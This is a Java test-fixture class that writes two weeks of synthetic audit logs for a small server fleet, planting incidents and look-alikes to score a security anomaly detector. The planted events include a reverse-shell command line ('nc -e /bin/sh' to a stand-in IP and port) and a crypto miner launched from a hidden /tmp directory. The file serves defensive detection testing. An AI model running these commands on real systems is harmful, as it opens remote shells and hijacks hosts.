package org.auditml.testkit;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Random;

/**
 * A fortnight of ten servers' raw audit trail (one joins on the sixth day) and a Docker host's containers in Auditbeat
 * JSON, with a known truth, for judging scores: office-hour web, database and
 * bastion hosts, an application host, and a build server that runs a steady nightly build (about 64 processes an
 * hour at 02:00–04:59 on weekdays, 56–72 in nineteen nights of twenty), bursty builds by day, and a new toolchain every few days. In the second week, incidents
 * that must be critical, and look-alikes that must not be ({@link Incident#critical}):
 * <ul>
 *   <li>a night surge on the build server to about twice its night level, below its day's peaks (critical), and the
 *       same count at noon (not);</li>
 *   <li>two ssh/scp storms on the two bastions on one day, the second larger (both critical);</li>
 *   <li>a reverse shell ({@code nc -e /bin/sh}) run by the build server's service account (critical), though new
 *       programs often appear there, started by the build server's Java (its parent pid is Java's latest run);</li>
 *   <li>a miner from a hidden directory of /tmp run by the web server's account at night (critical), started by the
 *       web server's PHP;</li>
 *   <li>an administrator's first run of a system tool from /usr/bin (not critical);</li>
 *   <li>a package upgrade on every host within the hour (not even minor).</li>
 * </ul>
 * Other processes' parent pids are random, near their own pid. The same seed writes the same bytes; other seeds move
 * the noise, not the incidents.
 */
public final class IncidentFleet {
    private static final long HOUR = 3_600_000L;
    private static final long MINUTE = 60_000L;
    /** Monday 2025-11-10 00:00 UTC. */
    public static final long START = 1_762_732_800_000L;
    public static final int DAYS = 14;

    /** What an incident (or a look-alike) is. */
    public enum Kind { NIGHT_SURGE, NOON_SURGE, STORM, REVERSE_SHELL, MINER, ADMIN_TOOL, ROLLOUT }

    /**
     * One planted incident: on which host, in which hour, the program it ran (for the rare ones), and whether a
     * security team must be told at once (a critical score); a look-alike is not critical.
     */
    public record Incident(Kind kind, String host, long hour, String executable, boolean critical) {
    }

    /** The raw log of the hosts, the Auditbeat JSON of the Docker host's containers, and what was planted. */
    public record Written(Path log, Path containerLog, List<Incident> incidents, long events) {
    }

    public static final long NIGHT_SURGE_HOUR = START + (9 * 24 + 3) * HOUR;     // Wednesday 03:00
    public static final long NOON_SURGE_HOUR = START + (10 * 24 + 12) * HOUR;    // Thursday 12:00
    public static final long STORM_DAY = START + 8 * 24 * HOUR;                  // Tuesday
    public static final long REVERSE_SHELL_AT = START + (7 * 24 + 22) * HOUR + 5 * MINUTE;  // Monday 22:05
    public static final long MINER_AT = START + (12 * 24 + 3) * HOUR + 17 * MINUTE;         // Saturday 03:17
    public static final long ADMIN_TOOL_AT = START + (8 * 24 + 10) * HOUR + 30 * MINUTE;    // Tuesday 10:30
    public static final long ROLLOUT_HOUR = START + (9 * 24 + 6) * HOUR;                    // Wednesday 06:00
    /** The count the night surge and its noon look-alike reach. */
    public static final int SURGE = 118;

    /**
     * Office hours: a host's processes are a negative binomial around 1.25 times its {@code office} figure (users come
     * and go: the variance is the mean plus its square over {@value #OFFICE_SIZE}); at night a Poisson of its
     * {@code night} figure. The nightly build runs a fixed set of processes and some that vary.
     */
    private static final double OFFICE_PEAK = 1.25;
    private static final double OFFICE_SIZE = 20;
    private static final int NIGHTLY_BUILD = 50;

    private record Host(String name, String[] programs, int office, int night, String uid) {
    }

    private static final Host[] HOSTS = {
            new Host("web-01", new String[]{"/usr/sbin/nginx", "/usr/bin/php8.2", "/usr/bin/curl", "/usr/bin/ls"}, 30, 6, "33"),
            new Host("web-02", new String[]{"/usr/sbin/nginx", "/usr/bin/php8.2", "/usr/bin/curl", "/usr/bin/ls"}, 30, 6, "33"),
            new Host("web-03", new String[]{"/usr/sbin/nginx", "/usr/bin/php8.2", "/usr/bin/curl", "/usr/bin/ls"}, 25, 5, "33"),
            new Host("db-01", new String[]{"/usr/lib/postgresql/15/bin/postgres", "/usr/bin/psql", "/usr/bin/df"}, 20, 5, "105"),
            new Host("db-02", new String[]{"/usr/lib/postgresql/15/bin/postgres", "/usr/bin/psql", "/usr/bin/df"}, 18, 5, "105"),
            new Host("bastion-01", new String[]{"/usr/bin/ssh", "/usr/bin/scp", "/usr/bin/bash", "/usr/bin/id"}, 60, 3, "1001"),
            new Host("bastion-02", new String[]{"/usr/bin/ssh", "/usr/bin/scp", "/usr/bin/bash", "/usr/bin/id"}, 50, 3, "1001"),
            new Host("app-01", new String[]{"/usr/bin/java", "/usr/bin/python3", "/usr/bin/curl", "/usr/bin/ls"}, 35, 8, "998"),
            new Host("build-01", new String[]{"/usr/bin/make", "/usr/bin/gcc", "/usr/bin/ld", "/usr/bin/git", "/usr/bin/java"}, 0, 0, "110"),
            new Host("web-04", new String[]{"/usr/sbin/nginx", "/usr/bin/php8.2", "/usr/bin/curl", "/usr/bin/ls"}, 25, 5, "33"),
    };
    /** A host that joins the fleet on this day: a newcomer's first days. */
    private static final String NEWCOMER = "web-04";
    private static final int NEWCOMER_DAY = 5;
    private static final String[][] CONTAINERS = {
            {"shop-web", "/usr/sbin/nginx", "/usr/sbin/php-fpm8.2", "/usr/bin/php8.2"},
            {"shop-db", "/usr/local/bin/docker-entrypoint.sh", "/usr/lib/postgresql/15/bin/postgres"},
            {"shop-worker", "/usr/bin/python3", "/usr/local/bin/celery"},
    };

    private IncidentFleet() {
    }

    /** The servers whose raw audit trail the fleet writes (the Docker host's containers aside). */
    public static int servers() {
        return HOSTS.length;
    }

    /** Writes the fleet with its incidents under {@code dir}. */
    public static Written write(Path dir, long seed) throws IOException {
        return write(dir, seed, true);
    }

    /**
     * Writes {@code incidents.log} (raw, {@code node=} prefixed) and {@code containers.ndjson} (Auditbeat) under
     * {@code dir}; without incidents, only the benign fleet (its package upgrade included: a rollout is benign).
     */
    public static Written write(Path dir, long seed, boolean incidents) throws IOException {
        Files.createDirectories(dir);
        Random r = new Random(seed);
        List<List<String>> records = new ArrayList<>();
        long[] serial = {1_000};
        for (long hour = START; hour < START + DAYS * 24 * HOUR; hour += HOUR) {
            ZonedDateTime at = Instant.ofEpochMilli(hour).atZone(ZoneOffset.UTC);
            boolean weekday = at.getDayOfWeek().getValue() <= 5;
            boolean office = weekday && at.getHour() >= 8 && at.getHour() < 18;
            for (Host h : HOSTS) {
                if (h.name.equals(NEWCOMER) && hour < START + NEWCOMER_DAY * 24 * HOUR) {
                    continue;
                }
                int n = h.name.equals("build-01") ? buildCount(hour, at.getHour(), weekday, incidents, r)
                        : office ? Counts.negativeBinomial(r, h.office * OFFICE_PEAK, OFFICE_SIZE)
                        : Counts.poisson(r, h.night);
                for (int i = 0; i < n; i++) {
                    String exe = h.programs[Math.min(h.programs.length - 1, (int) (h.programs.length * Math.pow(r.nextDouble(), 1.5)))];
                    records.add(exec(h.name, hour + r.nextInt(3_600_000), serial, r, office ? "1000" : h.uid, exe,
                            List.of(exe.substring(exe.lastIndexOf('/') + 1))));
                }
                if (at.getHour() == 3) {
                    records.add(exec(h.name, hour + MINUTE, serial, r, "0", "/usr/sbin/logrotate",
                            List.of("logrotate", "/etc/logrotate.conf")));
                }
            }
            // a new toolchain on the build server every few days: new programs appear there often
            if (at.getHour() == 14 && weekday && r.nextInt(3) > 0) {
                String gcc = "/opt/toolchains/gcc-13." + (at.getDayOfYear() % 50) + "/bin/gcc";
                records.add(exec("build-01", hour + 5 * MINUTE, serial, r, "110", gcc, List.of("gcc", "-O2", "main.c")));
            }
        }
        List<Incident> planted = incidents ? plant(records, serial, r) : rollout(records, serial, r, new ArrayList<>());
        records.sort(Comparator.comparingLong(IncidentFleet::timeOf));
        Path log = dir.resolve("incidents.log");
        long events = 0;
        try (BufferedWriter out = Files.newBufferedWriter(log, StandardCharsets.UTF_8)) {
            for (List<String> event : records) {
                for (String line : event) {
                    out.write(line);
                }
                events++;
            }
        }
        Path containers = dir.resolve("containers.ndjson");
        events += writeContainers(containers, r);
        return new Written(log, containers, planted, events);
    }

    /** The containers' executions as Auditbeat 8.x JSON: steady, with office-hour rhythms. */
    private static long writeContainers(Path file, Random r) throws IOException {
        long events = 0;
        long sequence = 700_000;
        try (BufferedWriter out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            for (long hour = START; hour < START + DAYS * 24 * HOUR; hour += HOUR) {
                ZonedDateTime at = Instant.ofEpochMilli(hour).atZone(ZoneOffset.UTC);
                boolean office = at.getDayOfWeek().getValue() <= 5 && at.getHour() >= 8 && at.getHour() < 18;
                List<long[]> times = new ArrayList<>();
                List<String> lines = new ArrayList<>();
                for (String[] c : CONTAINERS) {
                    int n = office ? Counts.negativeBinomial(r, 9.5, OFFICE_SIZE) : Counts.poisson(r, 4.5);
                    for (int i = 0; i < n; i++) {
                        long t = hour + r.nextInt(3_600_000);
                        String exe = c[1 + r.nextInt(c.length - 1)];
                        times.add(new long[]{t, lines.size()});
                        lines.add(container(t, c[0], exe, ++sequence));
                        events++;
                    }
                }
                times.sort(Comparator.comparingLong(x -> x[0]));
                for (long[] t : times) {
                    out.write(lines.get((int) t[1]));
                    out.write('\n');
                }
            }
        }
        return events;
    }

    private static String container(long t, String container, String exe, long sequence) {
        String name = exe.substring(exe.lastIndexOf('/') + 1);
        return "{\"@timestamp\":\"" + Instant.ofEpochMilli(t) + "\",\"event\":{\"module\":\"auditd\",\"action\":\"executed\","
                + "\"category\":[\"process\"],\"type\":[\"start\"],\"outcome\":\"success\"},\"host\":{\"name\":\"docker-01\"},"
                + "\"container\":{\"id\":\"" + Integer.toHexString(container.hashCode()) + "\",\"name\":\"" + container
                + "\"},\"process\":{\"executable\":\"" + exe + "\",\"name\":\"" + name + "\",\"pid\":" + (3000 + sequence % 5000)
                + "},\"user\":{\"id\":\"33\",\"name\":\"www-data\"},\"auditd\":{\"sequence\":" + sequence
                + ",\"result\":\"success\",\"data\":{\"syscall\":\"execve\"}},\"tags\":[\"exec\"]}";
    }

    /** The build server: a steady nightly build, bursty builds by day, little else; the surges are planted. */
    private static int buildCount(long hour, int hourOfDay, boolean weekday, boolean incidents, Random r) {
        if (incidents && (hour == NIGHT_SURGE_HOUR || hour == NOON_SURGE_HOUR)) {
            return SURGE;
        }
        if (weekday && hourOfDay >= 2 && hourOfDay < 5) {
            return NIGHTLY_BUILD + Counts.poisson(r, 14);
        }
        if (weekday && hourOfDay >= 8 && hourOfDay < 20) {
            return r.nextInt(4) == 0 ? 3 + r.nextInt(10) : 20 + r.nextInt(231); // idle, or a build of any size
        }
        return 2 + Counts.poisson(r, 1.5);
    }

    private static List<Incident> plant(List<List<String>> records, long[] serial, Random r) {
        List<Incident> incidents = new ArrayList<>();
        incidents.add(new Incident(Kind.NIGHT_SURGE, "build-01", NIGHT_SURGE_HOUR, null, true));
        incidents.add(new Incident(Kind.NOON_SURGE, "build-01", NOON_SURGE_HOUR, null, false));
        String[] bastions = {"bastion-01", "bastion-02"};
        int[] hours = {11, 15};
        int[] sizes = {450, 700};
        for (int b = 0; b < 2; b++) {
            long hour = STORM_DAY + hours[b] * HOUR;
            for (int i = 0; i < sizes[b]; i++) {
                String exe = i % 2 == 0 ? "/usr/bin/ssh" : "/usr/bin/scp";
                records.add(exec(bastions[b], hour + 5 * MINUTE + r.nextInt(50 * 60_000), serial, r, "1001", exe,
                        List.of(exe.substring(exe.lastIndexOf('/') + 1), "deploy@10.0.0." + (10 + r.nextInt(40)))));
            }
            incidents.add(new Incident(Kind.STORM, bastions[b], hour, null, true));
        }
        // the reverse shell is started by the build server's Java service (its latest run before)
        int java = RawEventWriter.lastPid(records, "build-01", "/usr/bin/java", REVERSE_SHELL_AT).orElseThrow();
        records.add(exec("build-01", REVERSE_SHELL_AT, serial, r, "110", "/usr/bin/nc",
                List.of("nc", "-e", "/bin/sh", "203.0.113.7", "4444"), java));
        incidents.add(new Incident(Kind.REVERSE_SHELL, "build-01", hourOf(REVERSE_SHELL_AT), "/usr/bin/nc", true));
        // the miner is started by the web server's PHP (its latest run before)
        int php = RawEventWriter.lastPid(records, "web-02", "/usr/bin/php8.2", MINER_AT).orElseThrow();
        records.add(exec("web-02", MINER_AT, serial, r, "33", "/tmp/.cache/xxprimef",
                List.of("/tmp/.cache/xxprimef", "-o", "pool.example.net:3333"), php));
        incidents.add(new Incident(Kind.MINER, "web-02", hourOf(MINER_AT), "/tmp/.cache/xxprimef", true));
        records.add(exec("web-03", ADMIN_TOOL_AT, serial, r, "1000", "/usr/bin/strace", List.of("strace", "-p", "4242")));
        incidents.add(new Incident(Kind.ADMIN_TOOL, "web-03", hourOf(ADMIN_TOOL_AT), "/usr/bin/strace", false));
        return rollout(records, serial, r, incidents);
    }

    /** A package upgrade on every host within the hour. */
    private static List<Incident> rollout(List<List<String>> records, long[] serial, Random r, List<Incident> incidents) {
        String[] upgrade = {"/usr/bin/unattended-upgrade", "/usr/bin/apt-get", "/usr/bin/dpkg", "/usr/lib/apt/methods/http"};
        for (Host h : HOSTS) {
            long at = ROLLOUT_HOUR + (5 + r.nextInt(30)) * MINUTE;
            for (int i = 0; i < upgrade.length; i++) {
                records.add(exec(h.name, at + i * 1_000, serial, r, "0", upgrade[i], List.of(upgrade[i], "-q")));
                incidents.add(new Incident(Kind.ROLLOUT, h.name, ROLLOUT_HOUR, upgrade[i], false));
            }
        }
        return incidents;
    }

    private static long hourOf(long t) {
        return t / HOUR * HOUR;
    }

    private static List<String> exec(String host, long time, long[] serial, Random r, String uid, String exe,
                                     List<String> args) {
        return exec(host, time, serial, r, uid, exe, args, -1);
    }

    /** An execution whose parent is {@code ppid} (a random one when negative; the same draws either way). */
    private static List<String> exec(String host, long time, long[] serial, Random r, String uid, String exe,
                                     List<String> args, int ppid) {
        int pid = 2000 + r.nextInt(60_000);
        int randomParent = pid - 1 - r.nextInt(30);
        return RawEventWriter.execution(host, time, ++serial[0], pid, ppid < 0 ? randomParent : ppid, uid, exe, "/",
                "exec", args);
    }

    private static long timeOf(List<String> event) {
        String line = event.get(0);
        int open = line.indexOf("audit(") + 6;
        return Long.parseLong(line.substring(open, line.indexOf(':', open)).replace(".", ""));
    }
}
